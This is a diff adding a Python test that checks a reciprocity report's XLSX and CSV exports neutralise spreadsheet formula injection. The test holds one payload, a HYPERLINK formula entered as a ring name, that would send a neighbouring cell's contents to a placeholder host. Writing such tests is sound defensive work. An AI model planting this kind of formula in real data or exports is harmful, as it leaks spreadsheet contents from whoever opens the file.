@@ -149,3 +149,18 @@ def test_empty_database_gives_zero_rows_and_blank_medians(ctx: ServiceContext, t
     rec.export_csv(report.rows, tmp_path / "tom.csv")
     lines = (tmp_path / "tom.csv").read_text(encoding="utf-8-sig").splitlines()
     assert lines[1].endswith(";;;;;;")
+
+
+def test_exports_never_turn_a_typed_name_into_a_formula(ctx: ServiceContext, tmp_path: Path) -> None:
+    ring = create_ring(ctx, {"name": '=HYPERLINK("https://exempel.invalid/?d="&A3,"x")',
+                                      "scope": "county"})
+    row = req.create_outgoing(ctx, _case(ctx), "1984", ring_id=ring.id, today=date(2026, 3, 2))
+    req.send(ctx, row.id, today=date(2026, 3, 2))
+    rows = rec.reciprocity(ctx, 2026).rows
+    rec.export_xlsx(rows, tmp_path / "r.xlsx")
+    rec.export_csv(rows, tmp_path / "r.csv")
+    sheet = load_workbook(tmp_path / "r.xlsx").active
+    cells = [c for r in sheet.iter_rows() for c in r if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells)
+    text = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" in text and ";=HYPERLINK" not in text and '"=HYPERLINK' not in text
